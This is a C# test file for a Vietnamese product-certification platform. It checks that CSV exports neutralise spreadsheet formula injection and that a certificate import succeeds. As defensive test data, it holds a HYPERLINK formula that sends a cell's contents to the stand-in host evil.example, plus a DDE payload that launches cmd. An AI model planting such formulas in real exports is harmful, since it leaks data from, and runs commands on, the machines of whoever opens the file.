using System.Net.Http.Headers;
using Ocop.Features.Identity;
using Ocop.Infrastructure;

namespace Ocop.Tests.Security;

/// <summary>Issue 17 §11 (spreadsheet formulas in CSV exports) and §6 (the historic-certificate import answered 500).</summary>
public abstract class CsvAndImportTests(OcopApp app)
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Bấm vào đây\")";

    [Fact]
    public async Task FeedCsv_WritesAFormulaAsText()
    {
        var (producer, owner) = await app.VerifiedProducerAsync();
        var body = new Dictionary<string, object?>
        {
            ["name"] = app.Unique("Mật ong bạc hà "), ["setCode"] = 1, ["unit"] = "hộp", ["netWeightGrams"] = 500, ["price"] = 250_000L,
            ["stock"] = 10, ["status"] = "Listed", ["description"] = Formula, ["story"] = "Câu chuyện.",
        };
        (await owner.PostAsJsonAsync("/api/v1/products", body)).EnsureSuccessStatusCode();

        foreach (var url in new[] { $"/api/v1/feeds/facebook.csv?producer={producer.Slug}", $"/api/v1/feeds/postal.csv?producer={producer.Slug}" })
        {
            var csv = (await (await app.Anonymous().GetAsync(url)).Content.ReadAsStringAsync()).TrimStart('\uFEFF');
            var cells = CsvRecords.Read(new StringReader(csv)).SelectMany(r => r.Fields).ToList();
            Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0]));
            Assert.Contains("'" + Formula, cells);
        }
    }

    [Fact]
    public void CsvText_NeutralisesEveryFormulaStart_AndLeavesNumbersAlone()
    {
        foreach (var start in new[] { "=", "+", "-", "@", "\t", "\r", "＝" })
        {
            var row = new CsvText(bom: false).Row(start + "cmd|' /C calc'!A0").ToString();
            var cell = CsvRecords.Read(new StringReader(row)).Single().Fields.Single();
            Assert.StartsWith("'", cell);
        }
        Assert.Equal("-5,Trà\r\n", new CsvText(bom: false).Row(-5, "Trà").ToString());
    }

    [Fact]
    public async Task CertificateImport_OverTheApi_Imports()
    {
        var central = await app.LoginAsNewAsync(Roles.Central);
        var number = app.Unique("LS-");
        var csv = "number,product,producer,province_code,set,stars,score,decision_number,decision_date,issued_on\n" +
                  $"{number},Nhãn sấy Sông Mã,HTX Nhãn Sông Mã,14,1,4,78,QĐ 12/2026,02/03/2026,02/03/2026\n";
        var response = await central.PostAsync("/api/v1/certificates/import", new StringContent(csv, new MediaTypeHeaderValue("text/csv")));
        var summary = await response.JsonAsync();
        Assert.Equal(1, summary.GetProperty("imported").GetInt32());
        Assert.True(await app.WithDb(db => db.Set<Ocop.Features.Certification.Certificate>().AnyAsync(c => c.Number == number)));
    }
}

[Collection(SqliteCollection.Name)] public sealed class CsvAndImportSqliteTests(SqliteApp app) : CsvAndImportTests(app);
[Collection(PostgresCollection.Name)] public sealed class CsvAndImportPostgresTests(PostgresApp app) : CsvAndImportTests(app);
